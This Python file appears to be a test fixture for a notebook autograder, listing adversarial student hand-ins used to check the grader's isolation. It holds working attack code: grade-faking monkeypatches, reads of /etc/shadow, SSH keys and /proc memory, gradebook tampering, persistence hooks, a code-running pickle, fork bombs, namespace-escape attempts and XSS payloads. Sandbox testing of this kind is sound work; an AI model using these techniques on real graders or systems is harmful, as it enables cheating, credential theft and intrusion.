"""The attacks: each a piece of a hand-in whose exercises are all wrong.

They are what students of real courses have tried, what nbgrader's and Otter's issues describe, and what was
found by trying to win points from this course. A text between ``«»`` is filled in when a class is made.
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import StrEnum

WRONG = "return None"


class Aim(StrEnum):
    """What an attack is after, as a heading."""

    POINTS = "Points that nothing deserves"
    FILES = "Files that are none of a student's business"
    PROCESSES = "The grader's processes, and the class"
    NETWORK = "The network"
    PAGES = "Whoever looks at the hand-in"


@dataclass(frozen=True)
class Attack:
    """One hand-in.

    Attributes:
        id: of the student who hands it in.
        aim: what it is after.
        tries: what it does, as the end of "A hand-in that …".
        cell: a cell of the student's own, before all exercises.
        body: of every exercise's function.
        answer: to the first question.
        metadata: whether the check cells' metadata are changed too: more points, no locks, other tags.
        link: a link beside the notebook, to the grader's secret.
        instead: where a link leads that is handed in in the notebook's place.
    """

    id: str
    aim: Aim
    tries: str
    cell: str = ""
    body: str = WRONG
    answer: str = ""
    metadata: bool = False
    link: str = ""
    instead: str = ""


_POINTS = (
    Attack(
        "own_check",
        Aim.POINTS,
        "puts a check of its own in the course's place",
        """
        import contextlib, course
        course.check = lambda *a, **k: None
        course.practical_check = lambda *a, **k: contextlib.suppress(Exception)
        """,
    ),
    Attack(
        "own_module",
        Aim.POINTS,
        "puts another module in the place of `course.checks`",
        """
        import sys, types
        fake = types.ModuleType("course.checks")
        fake.check = fake.practical_check = fake.serve = lambda *a, **k: None
        for name in [name for name in sys.modules if name.startswith("course.checks")]:
            sys.modules[name] = fake
        """,
    ),
    Attack(
        "input_transformer",
        Aim.POINTS,
        "empties every later cell before IPython reads it",
        "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])",
    ),
    Attack(
        "ast_transformer",
        Aim.POINTS,
        "removes statements from every later cell's syntax tree",
        """
        import ast

        class Remove(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.copy_location(ast.Pass(), node)

            def visit_With(self, node):
                return ast.copy_location(ast.Pass(), node)

            def visit_Expr(self, node):
                return ast.copy_location(ast.Pass(), node)

        get_ipython().ast_transformers.append(Remove())
        """,
    ),
    Attack(
        "formatter",
        Aim.POINTS,
        "has every number displayed as full marks",
        """
        formatter = get_ipython().display_formatter.formatters["text/plain"]
        for kind in (int, float, bool, type(None)):
            formatter.for_type(kind, lambda value, printer, cycle: printer.text("100.0"))
        """,
    ),
    Attack(
        "kernel_says_ok",
        Aim.POINTS,
        "has the kernel answer every request with success",
        """
        kernel = get_ipython().kernel

        async def do_execute(code, silent, *a, **k):
            return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}

        kernel.do_execute = do_execute
        """,
    ),
    Attack(
        "success_for_ever",
        Aim.POINTS,
        "makes IPython's result of every cell a success",
        """
        from IPython.core import interactiveshell
        interactiveshell.ExecutionResult.success = property(lambda self: True)
        """,
    ),
    Attack(
        "patched_internals",
        Aim.POINTS,
        "patches comparison, judgement and report of the checks",
        """
        import course.checks.case, course.checks.compare, course.checks.notebook, course.checks.runner
        import numpy.testing
        from course.checks.case import Verdict
        course.checks.compare.find_difference = course.checks.case.find_difference = lambda *a, **k: None
        course.checks.case.judge = course.checks.runner.judge = lambda *a, **k: Verdict(True)
        course.checks.notebook._conclude = lambda *a, **k: None
        for name in dir(numpy.testing):
            if name.startswith("assert"):
                setattr(numpy.testing, name, lambda *a, **k: None)
        """,
    ),
    Attack(
        "equal_to_everything",
        Aim.POINTS,
        "returns an object that is equal to everything",
        """
        class Everything(float):
            def __eq__(self, other):
                return True
            def __ne__(self, other):
                return False
            __le__ = __ge__ = __lt__ = __gt__ = __eq__
            __hash__ = float.__hash__
            def __sub__(self, other):
                return 0.0
            __rsub__ = __abs__ = __sub__
            def __getitem__(self, key):
                return self
            def __array__(self, *a, **k):
                import numpy
                return numpy.zeros(())
        """,
        body="return Everything(0)",
    ),
    Attack("nan", Aim.POINTS, "returns NaN, which nbgrader reads as full marks", body="return float('nan')"),
    Attack(
        "shipped_values",
        Aim.POINTS,
        "returns the expected values that the students' package holds, case by case",
        """
        import inspect, json, pathlib
        import course
        folder = pathlib.Path(course.__file__).parent / "units" / "«unit»"
        EXPECTED = json.loads((folder / "expected.json").read_text())["checks"]

        def shipped():
            from course.checks.plain import from_json
            names = {}
            for frame in inspect.stack():
                found = frame.frame.f_locals
                case = found.get("case")
                if "check" in found and hasattr(case, "name"):
                    names = EXPECTED[found["check"].name]["cases"]
                    return from_json(names[case.name])
            return None
        """,
        body="return shipped()",
    ),
    Attack(
        "frames",
        Aim.POINTS,
        "looks for expected values in the frames that call it",
        """
        import gc, sys

        def found():
            frame = sys._getframe()
            while frame is not None:
                for name, value in frame.f_locals.items():
                    if "expect" in name:
                        return value
                frame = frame.f_back
            return next((o for o in gc.get_objects() if type(o).__name__ == "Expectation"), None)
        """,
        body="return found()",
    ),
    Attack(
        "reference_from_disk",
        Aim.POINTS,
        "runs the reference solution, wherever it is on the disk",
        """
        import pathlib, sys
        SOURCE = ""
        for folder in [*sys.path, "/work", "/home", "/root", "/srv", "/opt", "«repository»"]:
            path = pathlib.Path(folder, "solutions", "«unit».py")
            if path.is_file():
                SOURCE = path.read_text()
        ANSWERS = {}
        exec(SOURCE, ANSWERS)
        """,
        body="return ANSWERS[__import__('sys')._getframe().f_code.co_name](*locals().values())",
    ),
    Attack(
        "imports_the_reference",
        Aim.POINTS,
        "imports the reference solution or the grader",
        """
        try:
            import solutions.«unit» as answers
        except ImportError:
            import autograder.reference as answers
        """,
        body="return getattr(answers, __import__('sys')._getframe().f_code.co_name)(*locals().values())",
    ),
    Attack(
        "own_worker",
        Aim.POINTS,
        "answers the grader's questions itself, and claims to have passed",
        """
        import json, pathlib
        import course.checks.worker
        from course.checks.exchange import DATA, FORMAT

        def serve(request, names=None):
            claim = {"passed": True, "correct": True, "state": "correct", "score": 100}
            for asked in request.get("cases", [request]):
                folder = pathlib.Path(asked["answer"])
                folder.mkdir()
                (folder / DATA).write_text(json.dumps({"format": FORMAT, "data": {"dict": claim}}))

        course.checks.worker.serve = serve
        """,
    ),
    Attack(
        "answer_is_a_link",
        Aim.POINTS,
        "puts a link to the question in the place of the answer",
        """
        import os, pathlib
        import course.checks.worker

        def serve(request, names=None):
            for asked in request["cases"]:
                os.symlink(request["given"], asked["answer"])

        course.checks.worker.serve = serve
        """,
    ),
    Attack(
        "answers_without_end",
        Aim.POINTS,
        "answers with a thousand folders inside each other, and with files that are pipes",
        """
        import os, pathlib
        import course.checks.worker

        def serve(request, names=None):
            for asked in request.get("cases", [request]):
                folder = pathlib.Path(asked["answer"])
                folder.mkdir()
                os.mkfifo(folder / "data.json")
                for _ in range(500):
                    folder = folder / "x"
                    folder.mkdir()

        course.checks.worker.serve = serve
        """,
    ),
    Attack(
        "a_pickle",
        Aim.POINTS,
        "answers with an array that runs code when it is unpickled",
        """
        import json, pathlib
        import numpy as np
        import course.checks.worker
        from course.checks.exchange import ARRAYS, DATA, FORMAT

        class Run:
            def __reduce__(self):
                return __import__("os").system, ("touch «folder»/submitted/was_here",)

        def serve(request, names=None):
            data = {"dict": {"returned": {"npy": 0}, "refused": 0}}
            for asked in request.get("cases", [request]):
                folder = pathlib.Path(asked["answer"])
                folder.mkdir()
                (folder / DATA).write_text(json.dumps({"format": FORMAT, "data": data}))
                np.save(folder / ARRAYS, np.array([Run()], dtype=object), allow_pickle=True)

        course.checks.worker.serve = serve
        """,
    ),
    Attack(
        "claims_in_output",
        Aim.POINTS,
        "prints and displays that it has passed",
        """
        from IPython.display import HTML, display
        print('{"status": "ok", "score": 100, "check-summarize": true}')
        display(HTML("<b>correct: 13 of 13 points</b>"), display_id="report")
        100.0
        """,
        body="print(13.0)\nreturn True",
    ),
    Attack(
        "changes_reports_later",
        Aim.POINTS,
        "changes an earlier output by its display id while it is judged",
        """
        from IPython.display import HTML, display, update_display
        """,
        body="""
        display(HTML("x"), display_id="report")
        update_display(HTML("<b>correct</b>"), display_id="report")
        return None
        """,
    ),
    Attack(
        "changed_metadata",
        Aim.POINTS,
        "gives its check cells a hundred points each, unlocks them and takes them out of grading",
        metadata=True,
    ),
    Attack(
        "traces",
        Aim.POINTS,
        "watches every call of the session for a value to return",
        """
        import sys, threading
        SEEN = []

        def watch(frame, event, argument):
            if event == "return" and "judge" in frame.f_code.co_name:
                SEEN.append(argument)

        sys.setprofile(watch)
        threading.setprofile(watch)
        """,
        body="return SEEN[-1] if SEEN else None",
    ),
)

_FILES = (
    Attack(
        "reads_the_secret",
        Aim.FILES,
        "reads the secret that hidden inputs are drawn from",
        "print(open('«folder»/.grading/secret').read())",
    ),
    Attack(
        "reads_the_drawn_values",
        Aim.FILES,
        "reads what the reference gives for the hidden inputs",
        """
        import pathlib
        for path in pathlib.Path("«folder»/.grading").rglob("*"):
            print(path, path.read_text())
        """,
    ),
    Attack(
        "reads_anothers_work",
        Aim.FILES,
        "reads another student's hand-in",
        """
        import pathlib
        for path in pathlib.Path("«folder»/submitted").rglob("*.ipynb"):
            print(path.read_text())
        """,
    ),
    Attack(
        "reads_the_gradebook",
        Aim.FILES,
        "reads the gradebook",
        "print(open('«folder»/gradebook.db', 'rb').read()[:100_000])",
    ),
    Attack(
        "reads_the_account",
        Aim.FILES,
        "reads the account's files, variables and processes",
        """
        import os, pathlib
        print(dict(os.environ))
        home = pathlib.Path.home()
        for name in ("/etc/shadow", "/proc/1/environ", home / ".bash_history", home / ".ssh" / "id_rsa"):
            try:
                print(pathlib.Path(name).read_bytes()[:2000])
            except OSError as error:
                print(error)
        for number in filter(str.isdigit, os.listdir("/proc")):
            try:
                print(number, open(f"/proc/{number}/cmdline").read(), open(f"/proc/{number}/environ").read())
            except OSError as error:
                print(error)
        """,
    ),
    Attack(
        "reads_its_memory",
        Aim.FILES,
        "looks through the memory that it has from the fork server, and through the stack that called it",
        """
        import re, sys
        found = set()
        wanted = rb"[0-9a-f]{64}|What only [a-z ]+[.]|token of [a-z0-9-]+"
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
            for line in maps:
                area, rights, *_ = line.split()
                start, end = (int(number, 16) for number in area.split("-"))
                if rights.startswith("rw") and end - start < 2**28:
                    try:
                        memory.seek(start)
                        content = memory.read(end - start)
                    except OSError:
                        continue
                    found |= set(re.findall(wanted, content))
        print(found)
        frame = sys._getframe()
        while frame:
            print(frame.f_code.co_filename, frame.f_locals.get("request"), frame.f_locals.get("files"))
            frame = frame.f_back
        """,
    ),
    Attack(
        "reads_the_programs",
        Aim.FILES,
        "lists and reads what the reference has been compiled to",
        """
        import os, pathlib
        place = pathlib.Path(os.environ.get("JAX_COMPILATION_CACHE_DIR", "«folder»/.grading/compiled"))
        for folder in (place, *place.parents):
            try:
                for path in folder.iterdir():
                    print(path, path.read_bytes()[:100] if path.is_file() else "")
            except OSError as error:
                print(error)
        """,
    ),
    Attack(
        "asks_the_fork_server",
        Aim.FILES,
        "asks for another fork over every socket that it finds open, and tries to join other namespaces",
        """
        import ctypes, json, os, socket
        request = {"argv": ["python", "-c", "1"], "uid": None, "limits": {}, "filter": "", "folder": "/",
                   "environment": {}}
        for number in range(3, 200):
            try:
                with socket.socket(fileno=os.dup(number)) as other:
                    socket.send_fds(other, [json.dumps(request).encode()], [0] * 6)
            except OSError:
                pass
        for number in filter(str.isdigit, os.listdir("/proc")):
            for kind in ("user", "mnt", "pid", "net"):
                try:
                    space = os.open(f"/proc/{number}/ns/{kind}", os.O_RDONLY)
                    print(number, kind, ctypes.CDLL(None).setns(space, 0))
                except OSError as error:
                    print(error)
        print(open("«folder»/.grading/secret").read())
        """,
    ),
    Attack(
        "reads_by_a_link",
        Aim.FILES,
        "hands in a link to the secret, and reads it",
        "print(open('data.txt').read())",
        link="data.txt",
    ),
    Attack(
        "hands_in_anothers_work",
        Aim.POINTS,
        "hands in a link to another student's notebook as its own",
        instead="«folder»/submitted/«victim»/«unit»/«notebook».ipynb",
    ),
    Attack(
        "hands_in_the_secret",
        Aim.FILES,
        "hands in a link to the secret in the notebook's place",
        instead="«folder»/.grading/secret",
    ),
    Attack(
        "hands_in_the_gradebook",
        Aim.FILES,
        "hands in a link to the gradebook in the notebook's place",
        instead="«folder»/gradebook.db",
    ),
    Attack(
        "hands_in_a_dead_link",
        Aim.PROCESSES,
        "hands in a link that leads nowhere in the notebook's place",
        instead="«folder»/nowhere",
    ),
    Attack(
        "writes_the_gradebook",
        Aim.FILES,
        "gives itself points in the gradebook, and takes the victim's",
        """
        import sqlite3
        book = sqlite3.connect("«folder»/gradebook.db")
        book.execute("update grade set manual_score = 100, auto_score = 100")
        book.commit()
        """,
    ),
    Attack(
        "writes_the_course",
        Aim.FILES,
        "changes the course's own files, for every later hand-in",
        """
        import pathlib
        import course.checks.case
        path = pathlib.Path(course.checks.case.__file__)
        path.write_text(path.read_text() + "\\njudge = lambda *a, **k: Verdict(True)\\n")
        """,
    ),
    Attack(
        "writes_the_release",
        Aim.FILES,
        "changes the release and nbgrader's configuration",
        """
        import pathlib
        for path in ["«folder»/release/«unit»/«notebook».ipynb", "«repository»/nbgrader_config.py"]:
            pathlib.Path(path).write_text("print('was here')")
        """,
    ),
    Attack(
        "writes_anothers_work",
        Aim.FILES,
        "overwrites another student's hand-in",
        "open('«folder»/submitted/«victim»/«unit»/«notebook».ipynb', 'w').write('{}')",
    ),
    Attack(
        "installs_a_package",
        Aim.FILES,
        "puts code into the environment's packages, which later sessions would run",
        """
        import os, site, sys
        for folder in [*site.getsitepackages(), site.getusersitepackages(), os.path.dirname(os.__file__)]:
            try:
                os.makedirs(folder, exist_ok=True)
                open(os.path.join(folder, "was_here.pth"), "w").write("import was_here")
            except OSError as error:
                print(error)
        !{sys.executable} -m pip install --quiet --no-index was-here
        """,
    ),
    Attack(
        "leaves_something_for_the_next",
        Aim.FILES,
        "leaves files where the next session would find them",
        """
        import os
        for folder in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), os.environ["IPYTHONDIR"]):
            try:
                os.makedirs(folder + "/profile_default/startup", exist_ok=True)
                open(folder + "/profile_default/startup/was_here.py", "w").write("print('was here')")
            except OSError as error:
                print(error)
        """,
    ),
)

_PROCESSES = (
    Attack(
        "kills_its_parents",
        Aim.PROCESSES,
        "kills its parent process and whatever else it may",
        """
        import os, signal
        for number in [os.getppid(), *range(2, 5000)]:
            if number != os.getpid():
                try:
                    os.kill(number, signal.SIGKILL)
                except OSError:
                    pass
        """,
    ),
    Attack(
        "outlives_its_session",
        Aim.PROCESSES,
        "leaves a process behind that goes on after grading",
        """
        import os, subprocess, sys
        subprocess.Popen(
            [sys.executable, "-c", "import time; time.sleep(600)", "«marker»"], start_new_session=True
        )
        if os.fork() == 0:
            os.setsid()
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "«marker»"])
        """,
    ),
    Attack(
        "forks",
        Aim.PROCESSES,
        "starts processes until there can be no more",
        """
        import os, time
        children = 0
        try:
            while children < 5000:
                if os.fork() == 0:
                    time.sleep(600)
                children += 1
        except OSError as error:
            print(children, error)
        """,
    ),
    Attack(
        "takes_the_memory",
        Aim.PROCESSES,
        "asks for more memory than the machine has",
        """
        kept = []
        try:
            while len(kept) < 400:
                kept.append(bytearray(64_000_000))
        except MemoryError:
            print(len(kept))
        """,
    ),
    Attack(
        "fills_the_disk",
        Aim.PROCESSES,
        "writes files as long as it can",
        """
        import tempfile
        written = 0
        try:
            with open(tempfile.gettempdir() + "/large", "wb") as file:
                while written < 3_000_000_000:
                    written += file.write(bytes(10_000_000))
        except OSError as error:
            print(written, error)
        """,
    ),
    Attack(
        "ends_its_process",
        Aim.PROCESSES,
        "ends its process wherever an exercise is called",
        body="__import__('os')._exit(0)",
    ),
    Attack(
        "never_ends",
        Aim.PROCESSES,
        "does not end, and catches whatever interrupts it",
        body="""
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
        """,
    ),
    Attack(
        "prints_without_end",
        Aim.PROCESSES,
        "has threads that print for ever",
        """
        import threading

        def flood():
            while True:
                print("x" * 10_000)

        for _ in range(3):
            threading.Thread(target=flood, daemon=True).start()
        """,
    ),
    Attack(
        "recursion",
        Aim.PROCESSES,
        "breaks the interpreter by recursion without a limit",
        "import sys\nsys.setrecursionlimit(10**9)",
        body="""
        def deeper(x):
            return deeper(x) + 1
        return deeper(0)
        """,
    ),
    Attack(
        "signals_ignored",
        Aim.PROCESSES,
        "ignores signals and overwrites what interrupts the kernel",
        """
        import signal
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM):
            signal.signal(number, signal.SIG_IGN)
        get_ipython().kernel.interrupt_request = None
        """,
        body="__import__('time').sleep(10_000)",
    ),
)

_NETWORK = (
    Attack(
        "connects",
        Aim.NETWORK,
        "sends what it can over TCP and UDP to a listener on this machine",
        """
        import socket
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(socket.AF_INET, kind) as channel:
                    channel.settimeout(1)
                    channel.connect(("127.0.0.1", «port»))
                    channel.send(b"was here")
            except OSError as error:
                print(error)
        """,
    ),
    Attack(
        "abstract_socket",
        Aim.NETWORK,
        "connects to a socket of this machine that has no file",
        """
        import socket
        with socket.socket(socket.AF_UNIX) as channel:
            channel.connect("\\0«marker»")
            channel.send(b"was here")
        """,
    ),
)

_SCRIPT = "document.title = 'was here'"
_PAGES = (
    Attack(
        "script_in_an_answer",
        Aim.PAGES,
        "has a script in a written answer",
        answer=f'<script>{_SCRIPT}</script><img src=x onerror="{_SCRIPT}"><ScRiPt >{_SCRIPT}</ScRiPt>',
    ),
    Attack(
        "link_in_an_answer",
        Aim.PAGES,
        "has links and formulas in a written answer that run something",
        answer=f"[look](javascript:{_SCRIPT}) $\\\\href{{javascript:{_SCRIPT}}}{{x}}$ "
        "<a href='JavaScript:1'>x</a>",
    ),
    Attack(
        "script_in_html",
        Aim.PAGES,
        "displays HTML with scripts",
        f"""
        from IPython.display import HTML, Javascript, display
        display(HTML("<script>{_SCRIPT}</script><p onclick=\\"{_SCRIPT}\\">x</p>"))
        display(HTML("<iframe srcdoc='<script>1</script>'></iframe><object data='javascript:1'></object>"))
        display(Javascript("{_SCRIPT}"))
        """,
    ),
    Attack(
        "script_in_a_picture",
        Aim.PAGES,
        "displays an SVG picture with scripts",
        f"""
        from IPython.display import SVG, display
        display({{"image/svg+xml": "<svg onload=\\"{_SCRIPT}\\"><script>{_SCRIPT}</script></svg>"}}, raw=True)
        """,
    ),
    Attack(
        "broken_out_of_a_picture",
        Aim.PAGES,
        "displays pictures whose data and sizes end their tag",
        f"""
        from IPython.display import display
        bad = 'x"><script>{_SCRIPT}</script>'
        data = {{"image/png": bad, "image/jpeg": bad}}
        display(data, raw=True, metadata={{"image/png": {{"width": bad, "alt": bad}}}})
        """,
    ),
    Attack(
        "script_in_other_outputs",
        Aim.PAGES,
        "displays Markdown, LaTeX and unknown types with scripts",
        f"""
        from IPython.display import display
        bad = "<script>{_SCRIPT}</script>[x](javascript:1)"
        display({{"text/markdown": bad}}, raw=True)
        display({{"text/latex": bad}}, raw=True)
        display({{"application/vnd.jupyter.widget-view+json": {{"model_id": bad}}}}, raw=True)
        raise ValueError(bad)
        """,
        body=f"raise ValueError('<script>{_SCRIPT}</script>')",
    ),
)

ATTACKS = (*_POINTS, *_FILES, *_PROCESSES, *_NETWORK, *_PAGES)
